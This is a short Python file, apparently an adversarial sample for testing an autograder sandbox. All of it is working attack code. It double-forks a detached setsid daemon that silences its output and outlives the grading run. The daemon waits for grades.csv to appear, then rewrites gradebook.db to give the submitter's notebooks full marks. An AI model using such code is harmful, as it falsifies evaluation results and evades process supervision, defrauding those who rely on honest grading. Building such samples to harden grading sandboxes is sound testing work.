# class: disk
# what: a double-forked, setsid daemon waits until grades.csv is written, then gives me full marks in gradebook.db
# after: setup
# danger: disk
# ruff: noqa
import glob
import os
import sqlite3
import time

ME = "disk_daemon_gradebook"


# include: course_dirs


def _daemon(course):
    deadline = time.time() + 900
    while time.time() < deadline:
        if os.path.exists(os.path.join(course, "grades.csv")):
            time.sleep(0.3)
            db = sqlite3.connect(os.path.join(course, "gradebook.db"), timeout=60)
            db.execute(
                "UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells"
                " WHERE grade_cells.id = grade.cell_id) WHERE notebook_id IN"
                " (SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa"
                " ON sn.assignment_id = sa.id WHERE sa.student_id = ?)",
                (ME,),
            )
            db.commit()
            return
        time.sleep(0.1)


_course = _my_course()
if _course:
    _child = os.fork()
    if _child == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                _null = os.open(os.devnull, os.O_RDWR)
                for _fd in (0, 1, 2):
                    os.dup2(_null, _fd)
                os.chdir("/")
                _daemon(_course)
            finally:
                os._exit(0)
        os._exit(0)
    os.waitpid(_child, 0)
